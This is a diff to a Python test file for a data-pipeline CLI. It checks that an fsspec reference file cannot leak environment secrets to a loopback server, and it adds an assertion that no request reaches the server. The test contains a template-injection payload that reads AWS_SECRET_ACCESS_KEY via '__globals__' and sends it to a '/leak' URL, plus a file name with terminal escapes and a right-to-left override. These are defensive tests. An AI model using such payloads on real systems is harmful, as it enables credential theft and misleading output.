@@ -13,7 +13,7 @@ from click.testing import CliRunner, Result
 from PIL import Image
 
 from pipeline.cli.main import cli
-from tests.data.loopback import serve
+from tests.data.loopback import serve, website
 
 Run = Callable[..., Result]
 EVIL = "evil\x1b[31m\nverdict ok\u202egpj.png"
@@ -236,7 +236,7 @@ def test_secrets_of_urls_are_shown_nowhere_and_private_machines_are_named_first(
 def test_a_table_cannot_send_secrets_of_the_environment_away(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
     """A chain of fsspec expands templates, which reach os.environ; neither the parent nor a child follows it."""
     monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "TOPSECRET")
-    with serve({}) as address:
+    with website({}) as (address, asked):
         template = "{{t.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}}"
         reference = {"version": 1, "templates": {"t": "{{x}}"}, "refs": {"x": [f"{address}/leak?k={template}"]}}
         Path("ref.json").write_text(json.dumps(reference))
@@ -245,3 +245,4 @@ def test_a_table_cannot_send_secrets_of_the_environment_away(run: Run, monkeypat
             done = run("check", "evil.csv", "--allow-host", "127.0.0.1")
             assert done.exit_code == 3
             assert "evil.csv, row 2: reference://x::" in done.stderr
+    assert asked == []
